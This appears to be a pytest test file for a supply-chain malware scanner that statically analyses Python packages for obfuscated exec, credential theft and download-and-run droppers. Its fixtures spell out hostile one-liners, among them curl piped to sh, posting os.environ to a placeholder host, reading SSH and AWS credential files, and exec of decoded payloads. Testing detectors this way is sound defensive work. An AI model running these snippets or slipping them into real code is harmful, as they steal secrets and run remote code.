"""The static analysis of one file: name resolution, static decoding, signals and verdicts."""

from __future__ import annotations

import ast
import base64
import codecs
import textwrap
import zlib

import pytest

from bastion.findings import Location, Severity
from bastion.supply.heuristics.interface import MAIN, MODULE, Sig
from bastion.supply.heuristics.python_ast import analyze_source
from bastion.supply.heuristics.resolve import Resolver
from bastion.supply.heuristics.verdicts import Source, module_findings


def facts_of(code: str):  # type: ignore[no-untyped-def]
    return analyze_source(textwrap.dedent(code))


def kinds(code: str) -> set[tuple[Sig, str]]:
    return {(s.kind, s.scope) for s in facts_of(code).signals}


def verdicts(code: str, role: str = "module") -> dict[str, Severity]:
    facts = facts_of(code)
    found = module_findings(Source(Location("p.whl", ("m.py",)), "m.py", facts), role=role)
    return {f.rule_id: f.severity for f in found}


def resolver(code: str) -> tuple[Resolver, ast.Module]:
    tree = ast.parse(textwrap.dedent(code))
    return Resolver(ast.walk(tree)), tree


@pytest.mark.parametrize(("code", "expected"), [
    ("from base64 import b64decode as d\nd(x)", "base64.b64decode"),
    ("import os as o\no.system('x')", "os.system"),
    ("__import__('os').system('x')", "os.system"),
    ("import builtins\ngetattr(builtins, 'ex' + 'ec')(c)", "builtins.exec"),
    ("globals()['__builtins__']['eval'](c)", "builtins.eval"),
    ("import requests\ns = requests.Session()\ns.post(u)", "requests.Session().post"),
    ("import importlib\nm = importlib.import_module('subprocess')\nm.run(c)", "subprocess.run"),
    ("from . import helpers\nhelpers.post(u)", ".helpers.post"),
    ("exec(c)", "builtins.exec"),
    ("def exec(c): pass\nexec(c)", "exec"),  # shadowed builtin
])
def test_calls_resolve_through_aliases(code: str, expected: str) -> None:
    r, tree = resolver(code)
    last = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    outer = max(last, key=lambda n: (n.lineno, -n.col_offset))
    assert r.qual(outer.func) == expected


def test_static_decoding_of_chained_payloads() -> None:
    payload = b"print('decoded')"
    code = (f"exec(zlib.decompress(base64.b64decode("
            f"{base64.b64encode(zlib.compress(payload)).decode()!r})))")
    r, tree = resolver("import zlib, base64\n" + code)
    call = next(n for n in ast.walk(tree) if isinstance(n, ast.Call))
    assert r.static(call.args[0]) == payload
    for expr, value in [
        (f"bytes.fromhex({payload.hex()!r})", payload),
        (f"codecs.decode({codecs.encode('hello', 'rot13')!r}, 'rot13')", "hello"),
        ("'olleh'[::-1]", "hello"),
        ("''.join([chr(104), chr(105)])", "hi"),
        ("'ab' * 3", "ababab"),
        ("f'{\"x\"}y'", "xy"),
    ]:
        r, tree = resolver(f"import codecs\nv = {expr}")
        assign = next(n for n in ast.walk(tree) if isinstance(n, ast.Assign))
        assert r.static(assign.value) == value, expr


def test_static_decoding_is_bounded() -> None:
    bomb = base64.b64encode(zlib.compress(b"\0" * (8 << 20))).decode()
    r, tree = resolver(f"import zlib, base64\nv = zlib.decompress(base64.b64decode({bomb!r}))")
    assign = next(n for n in ast.walk(tree) if isinstance(n, ast.Assign))
    value = r.static(assign.value)
    assert isinstance(value, bytes)
    assert len(value) <= 1 << 20


def test_scopes_and_main_guard() -> None:
    found = kinds("""
        import os, requests
        requests.get("https://a.invalid")
        def f():
            return dict(os.environ)
        class C:
            def m(self):
                requests.post("https://b.invalid")
        if __name__ == "__main__":
            requests.get("https://c.invalid")
    """)
    assert (Sig.NETWORK, MODULE) in found
    assert (Sig.ENV_BULK, "f") in found
    assert (Sig.NETWORK, "C.m") in found
    assert (Sig.NETWORK, MAIN) in found


@pytest.mark.parametrize(("code", "signal"), [
    ("import os\nos.environ.get('GITHUB_TOKEN')", Sig.ENV_SECRET),
    ("import os\nos.getenv('AWS_SECRET_ACCESS_KEY')", Sig.ENV_SECRET),
    ("import os\nx = os.environ['OPENAI_API_KEY']", Sig.ENV_SECRET),
    ("import os\nprint(os.environ)", Sig.ENV_BULK),
    ("from os import environ\nfor k in environ: pass", Sig.ENV_BULK),
    ("open(os.path.expanduser('~/.ssh/id_rsa'))", Sig.CRED_FILE),
    ("p = '~/.aws/credentials'", Sig.CRED_FILE),
    ("p = 'Google/Chrome/User Data/Default/Login Data'", Sig.CRED_FILE),
    ("u = 'http://169.254.169.254/latest/meta-data/iam/'", Sig.METADATA),
    ("import keyring\nkeyring.get_password('s', 'u')", Sig.CRED_STORE),
    ("import socket\nsocket.gethostbyname(f'{d}.x.invalid')", Sig.DNS),
    ("import subprocess\nsubprocess.run(['curl', 'x'])", Sig.NETWORK),
    ("import os\nos.system('rm -rf ~')", Sig.SHELL),
    ("import subprocess\nsubprocess.run(['cmake', '..'])", Sig.SHELL_BUILD),
    ("import subprocess\nsubprocess.run(cmd)", Sig.SHELL_DYNAMIC),
    ("open('f', 'w')", Sig.FILE_WRITE),
    ("__import__(name)", Sig.DYN_IMPORT),
    ("import builtins\nbuiltins.exec(c)", Sig.BUILTINS_TRICK),
    ("exec(x)", Sig.EXEC),
])
def test_signals(code: str, signal: Sig) -> None:
    assert signal in {s.kind for s in facts_of(code).signals}


@pytest.mark.parametrize("code", [
    "import os\nos.environ.get('HOME')",
    "import os\nos.environ['PATH'] = '/bin'",
    "import os\n'X' in os.environ",
    "import os, subprocess\nsubprocess.run(['git'], env=dict(os.environ, LANG='C'))",
    "exec(open('pkg/version.py').read())",
    "import base64\nbase64.b64decode(data)",
    "'''docstring mentioning ~/.ssh/id_rsa'''",
    "import pickle, base64\npickle.loads(base64.b64decode(message))",
])
def test_benign_patterns_give_no_strong_signal(code: str) -> None:
    strong = {Sig.ENV_BULK, Sig.ENV_SECRET, Sig.CRED_FILE, Sig.EXEC, Sig.EXEC_DECODED}
    assert not {s.kind for s in facts_of(code).signals} & strong


def test_co_occurrence_grades_exfiltration() -> None:
    """Same function: critical; functions that call each other: high; module only: low."""
    same = verdicts("""
        import os, requests
        def f():
            requests.post("https://x.invalid", json=dict(os.environ))
    """)
    connected = verdicts("""
        import os, requests
        def collect():
            return dict(os.environ)
        def send():
            requests.post("https://x.invalid", json=collect())
    """)
    apart = verdicts("""
        import os, requests
        def collect():
            return dict(os.environ)
        def send(data):
            requests.post("https://x.invalid", json=data)
    """)
    one_secret = verdicts("""
        import os, requests
        def upload(path):
            token = os.environ["HF_TOKEN"]
            requests.post("https://hub.invalid", headers={"Authorization": token})
    """)
    rule = "SUPPLY-CREDENTIAL-EXFILTRATION"
    assert same[rule] is Severity.CRITICAL
    assert connected[rule] is Severity.HIGH
    assert apart[rule] is Severity.LOW
    assert one_secret[rule] is Severity.MEDIUM  # an SDK sending its own API key


DROPPER = """
    import os, subprocess, urllib.request
    def fetch_tool(path):
        urllib.request.urlretrieve(URL, path)
        os.chmod(path, 0o755)
        subprocess.Popen([path])
"""


@pytest.mark.parametrize(("url", "call", "severity"), [
    ("'https://raw.githubusercontent.com/x/tool.pl'", "", Severity.LOW),  # torch's profiler
    ("os.environ['TOOL_URL']", "", Severity.MEDIUM),
    ("'https://x.invalid/tool'", "fetch_tool('/tmp/t')", Severity.CRITICAL),  # on import
])
def test_write_and_run_a_download_is_graded_by_when_it_runs(url: str, call: str,
                                                             severity: Severity) -> None:
    """Technique: fetch, write, chmod +x, run. Unasked (on import) it is a dropper."""
    code = textwrap.dedent(DROPPER).replace("URL", url) + f"\n{call}\n"
    assert verdicts(code)["SUPPLY-DOWNLOAD-EXECUTE"] is severity


def test_exec_of_downloaded_code_is_critical() -> None:
    found = verdicts("""
        import urllib.request
        exec(urllib.request.urlopen("https://x.invalid/p.py").read())
    """)
    assert found["SUPPLY-DOWNLOAD-EXECUTE"] is Severity.CRITICAL


def test_curl_pipe_sh_is_critical() -> None:
    found = verdicts("import os\nos.system('curl -s https://x.invalid/i.sh | sh')")
    assert found["SUPPLY-DOWNLOAD-EXECUTE"] is Severity.CRITICAL


def test_constant_exec_string_is_analysed_as_code() -> None:
    found = verdicts("exec('import os\\nos.system(\"id\")\\nimport requests\\n"
                     "requests.post(\"https://x.invalid\", data=str(dict(os.environ)))')")
    assert found["SUPPLY-CREDENTIAL-EXFILTRATION"] is Severity.CRITICAL


def test_rot13_and_reversal_count_as_decoding() -> None:
    assert verdicts("import codecs\nexec(codecs.decode(s, 'rot13'))")[
        "SUPPLY-OBFUSCATED-EXEC"] is Severity.CRITICAL
    assert verdicts("exec(s[::-1])")["SUPPLY-OBFUSCATED-EXEC"] is Severity.CRITICAL
    assert verdicts("exec(''.join(chr(c) for c in codes))")[
        "SUPPLY-OBFUSCATED-EXEC"] is Severity.CRITICAL


@pytest.mark.parametrize("code", [
    "x = " + "(" * 300 + "1" + ")" * 300,
    "x = " + "-" * 200_000 + "1",
    "x = " + " + ".join(["a"] * 50_000),
    "def f(:\n",
    "print 'python 2'\n",
    "x = 1\0\n",
])
def test_hostile_sources_never_raise(code: str) -> None:
    facts = analyze_source(code)
    assert facts.problem is None or isinstance(facts.problem, str)


def test_python2_file_still_shows_decode_and_exec() -> None:
    facts = analyze_source("print 'x'\nexec base64.b64decode('cHJpbnQ=')\n"
                           "exec(zlib.decompress(base64.b64decode(p)))\n")
    assert facts.problem
    assert "does not parse" in facts.problem
    assert [s.line for s in facts.signals if s.kind is Sig.EXEC_DECODED] == [3]
